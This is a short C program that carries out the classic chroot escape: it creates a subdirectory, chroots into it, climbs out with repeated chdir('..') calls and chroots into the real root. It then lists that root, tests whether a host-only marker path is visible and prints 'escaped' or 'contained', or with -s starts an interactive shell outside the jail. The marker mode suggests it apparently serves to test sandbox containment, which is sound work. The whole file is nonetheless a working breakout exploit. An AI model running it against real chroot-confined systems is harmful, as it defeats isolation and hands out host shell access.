/*
 * escape [-s] [MARKER]: the classic way out of a bare chroot. chroot(2) does not move the working
 * directory, so after a second chroot it lies outside the root, and ".." leads up to the real one.
 *
 *   MARKER  absolute path that exists only on the host: exit 0 and "escaped" if it is there after the
 *           attempt, else exit 1 and "contained"
 *   -s      run a shell in the root that was reached
 * Without either, lists what is in the root that was reached.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { DEPTH = 256 }; /* more levels than any path here has; ".." of the root is the root */

static void contained(const char *step)
{
    printf("contained: %s: %s\n", step, strerror(errno));
    exit(1);
}

static void break_out(void)
{
    int home = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (mkdir(".out", 0700) != 0 && errno != EEXIST)
        contained("mkdir .out");
    if (chroot(".out") != 0)
        contained("chroot .out");
    if (home >= 0)
        (void)unlinkat(home, ".out", AT_REMOVEDIR);
    for (int i = 0; i < DEPTH; i++)
        if (chdir("..") != 0)
            contained("chdir ..");
    if (chroot(".") != 0)
        contained("chroot .");
}

static int by_name(const struct dirent **a, const struct dirent **b)
{
    return strcmp((*a)->d_name, (*b)->d_name);
}

static void list_root(void)
{
    struct dirent **entries = NULL;
    int count = scandir("/", &entries, NULL, by_name);
    for (int i = 0; i < count; i++)
        if (entries[i]->d_name[0] != '.')
            printf("/%s\n", entries[i]->d_name);
}

int main(int argc, char **argv)
{
    int shell = argc > 1 && strcmp(argv[1], "-s") == 0;
    const char *marker = argc > 1 + shell ? argv[1 + shell] : NULL;
    break_out();
    if (shell)
        return execl("/bin/sh", "sh", "-i", (char *)NULL);
    if (!marker) {
        list_root();
        return 0;
    }
    int out = access(marker, F_OK) == 0;
    printf("%s: %s is %s from here\n", out ? "escaped" : "contained", marker, out ? "seen" : "not seen");
    return out ? 0 : 1;
}
